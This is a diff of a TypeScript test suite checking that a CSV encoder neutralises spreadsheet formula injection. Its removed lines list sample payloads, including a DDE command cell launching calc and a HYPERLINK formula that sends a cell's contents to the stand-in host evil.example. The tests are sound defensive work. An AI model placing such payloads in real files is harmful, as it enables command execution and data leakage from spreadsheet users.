@@ -3,6 +3,7 @@ import fc from 'fast-check';
 import Papa from 'papaparse';
 import { describe, expect, it } from 'vitest';
 import { createCsvCounts, csvLine, encodeRows, guard, unguard } from '../../../src-main/platform/csv.ts';
+import { formulaLeads, formulaStarts, formulas, wouldRun } from '../../builders/formulas.ts';
 
 /** What two parsers that know nothing of each other read. */
 function parsed(text: string, delimiter = ','): string[][] {
@@ -40,53 +41,20 @@ describe('rows', () => {
 });
 
 describe('formulas', () => {
-  const starts = ['=', '+', '-', '@', '\t', '\r', '\n', '\0', '＝', '＋', '－', '＠'];
-  const leads = [
-    '',
-    '\uFEFF',
-    ' ',
-    '  ',
-    '\u00A0',
-    '\u3000',
-    '\u200B',
-    '\u202E',
-    '"',
-    "'",
-    '""',
-    "''",
-    ' "',
-    '\uFEFF "',
-    "'\uFEFF",
-  ];
-  const bodies = [
-    '1+1',
-    "cmd|' /C calc'!A0",
-    'HYPERLINK("http://evil.example/?"&A1,"go")',
-    'SUM(1;2)',
-    'a,b|c\td;e\r\nf',
-    '',
-  ];
-  const corpus = starts.flatMap((start) =>
-    leads.flatMap((lead) => bodies.map((body) => `${lead}${start}${body}`)),
-  );
-
-  /** A spreadsheet drops marks, blanks and its own quotes in front, and runs what then begins like a formula. */
-  const wouldRun = (cell: string) => /^[\uFEFF\s\p{Cf}"]*[=+\-@＝＋－＠]/u.test(cell);
-
   it('are all neutralised, in every separator, and nothing moves', () => {
-    expect(corpus.length).toBeGreaterThan(1000);
+    expect(formulas.length).toBeGreaterThan(1000);
     for (const delimiter of [',', ';', '\t', '|'] as const) {
-      const rows = corpus.map((text, index) => [index, text, -5]);
+      const rows = formulas.map((text, index) => [index, text, -5]);
       const read = parsed(encodeRows(rows, { delimiter }), delimiter);
-      expect(read).toHaveLength(corpus.length);
+      expect(read).toHaveLength(formulas.length);
       for (const [index, row] of read.entries()) {
         expect(row).toHaveLength(3);
         expect([row[0], row[2]]).toEqual([String(index), '-5']);
         // A NUL is no NUL any more and starts nothing; every other cell carries the guard.
-        const isPlain = corpus[index]?.includes('\0') ?? false;
+        const isPlain = formulas[index]?.includes('\0') ?? false;
         expect(isPlain || row[1]?.startsWith("'")).toBe(true);
         expect(wouldRun(row[1] ?? '')).toBe(false);
-        expect(unguard(row[1] ?? '')).toBe(clean(corpus[index] ?? ''));
+        expect(unguard(row[1] ?? '')).toBe(clean(formulas[index] ?? ''));
       }
     }
   });
@@ -105,7 +73,7 @@ describe('formulas', () => {
 
   it('are given back exactly, whatever the text', () => {
     const risky = fc.string({
-      unit: fc.constantFrom(...starts, ...leads.filter(Boolean), 'a', '1'),
+      unit: fc.constantFrom(...formulaStarts, ...formulaLeads.filter(Boolean), 'a', '1'),
       maxLength: 6,
     });
     fc.assert(
